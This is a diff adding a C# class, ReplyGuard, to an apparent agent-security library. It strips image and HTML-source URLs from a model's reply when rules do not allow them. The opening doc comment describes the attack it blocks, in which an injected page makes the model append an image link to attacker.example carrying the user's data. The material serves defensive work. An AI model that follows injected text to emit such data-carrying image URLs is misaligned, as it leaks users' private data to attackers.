@@ -1,0 +1,113 @@
+using System.Text;
+using Microsoft.Extensions.Logging;
+
+namespace AgentGuard;
+
+/// <summary>
+/// Decides the URLs a model's reply makes the reader's client load unclicked — markdown and HTML images — before the
+/// reply is shown. An injected page can have the model end its answer with
+/// <c>![](https://attacker.example/p.png?d=</c> followed by the user's data: no tool runs, the client's renderer sends it.
+/// Each such URL is decided as a <see cref="ToolKind.RenderedUrl"/> call named <see cref="ToolName"/>, tagged
+/// <see cref="Tag"/>, with the URL as its <c>url</c> argument (the default pack's <c>pack-rendered-url-untrusted</c>:
+/// after untrusted content, a URL the user or a trusted tool did not give). A URL that is not allowed (denied, or needing an approval nobody can give mid-reply) is removed
+/// from the text: an inline image becomes its alt text, a reference definition and an HTML source point nowhere. Every
+/// decision is audited as any other; a failure to decide removes the URL.
+/// </summary>
+public sealed partial class ReplyGuard
+{
+    /// <summary>The tool name a rendered URL is decided under.</summary>
+    public const string ToolName = "render_url";
+
+    /// <summary>The tag a rendered URL carries, for rules to match.</summary>
+    public const string Tag = "rendered-url";
+
+    private static readonly string[] Tags = [Tag];
+
+    private readonly ToolGuard _guard;
+    private readonly ILogger _logger;
+
+    internal ReplyGuard(ToolGuard guard, ILogger<ReplyGuard> logger)
+    {
+        _guard = guard;
+        _logger = logger;
+    }
+
+    /// <summary>
+    /// Returns <paramref name="reply"/> with every rendered URL that is not allowed removed (the same string when none
+    /// is). Rendered URLs are absolute or protocol-relative ones of inline markdown images, every reference definition
+    /// (<c>[id]: url</c>, which an image may use from anywhere) and HTML <c>src</c> and <c>poster</c> attributes.
+    /// </summary>
+    /// <param name="reply">The reply's text, as the client will render it.</param>
+    /// <param name="context">The session the reply belongs to.</param>
+    /// <param name="cancellationToken">Cancels the decisions.</param>
+    public async ValueTask<string> GuardAsync(string reply, GuardContext context, CancellationToken cancellationToken = default)
+    {
+        ArgumentNullException.ThrowIfNull(reply);
+        ArgumentNullException.ThrowIfNull(context);
+        if (reply.AsSpan().IndexOfAny(RenderedUrlScanner.Starts) < 0)
+        {
+            return reply;
+        }
+
+        StringBuilder? rewritten = null;
+        var copied = 0;
+        foreach (var url in RenderedUrlScanner.Find(reply))
+        {
+            if (url.Start < copied || await IsAllowedAsync(url.Url, context, cancellationToken).ConfigureAwait(false))
+            {
+                continue;
+            }
+
+            rewritten ??= new StringBuilder(reply.Length);
+            rewritten.Append(reply, copied, url.Start - copied).Append(url.Replacement);
+            copied = url.Start + url.Length;
+        }
+
+        return rewritten is null ? reply : rewritten.Append(reply, copied, reply.Length - copied).ToString();
+    }
+
+    /// <summary>A guard for one streamed reply: text is passed on as it comes, except a construct that may load a URL, held until it is whole and decided.</summary>
+    /// <param name="context">The session the reply belongs to.</param>
+    public ReplyStreamGuard Stream(GuardContext context)
+    {
+        ArgumentNullException.ThrowIfNull(context);
+        return new ReplyStreamGuard(this, context);
+    }
+
+    private async ValueTask<bool> IsAllowedAsync(string url, GuardContext context, CancellationToken cancellationToken)
+    {
+        try
+        {
+            var call = new ToolCallEvent(ToolName, ToolKind.RenderedUrl)
+            {
+                Source = HostOf(url),
+                Arguments = ToolArguments.FromPairs([new("url", url)], _guard.ArgumentLimits),
+                Tags = Tags,
+            };
+            var decision = await _guard.AuthorizeAsync(call, context, useApprovalHandler: false, cancellationToken).ConfigureAwait(false);
+            if (!decision.IsAllowed)
+            {
+                LogRenderedUrlRemoved(HostOf(url), string.Join(",", decision.RuleIds));
+            }
+
+            return decision.IsAllowed;
+        }
+#pragma warning disable CA1031 // A failure to decide removes the URL; the reply is still shown.
+        catch (Exception ex) when (!cancellationToken.IsCancellationRequested)
+#pragma warning restore CA1031
+        {
+            LogRenderedUrlCheckFailed(ex, HostOf(url));
+            return false;
+        }
+    }
+
+    /// <summary>The host a rendered URL (absolute or protocol-relative) goes to.</summary>
+    private static string HostOf(string url)
+        => Provenance.ValueTokenizer.HostOf(Provenance.ValueTokenizer.CanonicalUrl(url.AsSpan(url.IndexOf("//", StringComparison.Ordinal) + 2))).ToString();
+
+    [LoggerMessage(EventId = 1301, Level = LogLevel.Warning, Message = "AgentGuard removed an image of {Host} from a reply (rules {RuleIds}).")]
+    private partial void LogRenderedUrlRemoved(LogText host, LogText ruleIds);
+
+    [LoggerMessage(EventId = 1302, Level = LogLevel.Error, Message = "AgentGuard could not decide an image of {Host} in a reply; it was removed.")]
+    private partial void LogRenderedUrlCheckFailed(Exception exception, LogText host);
+}
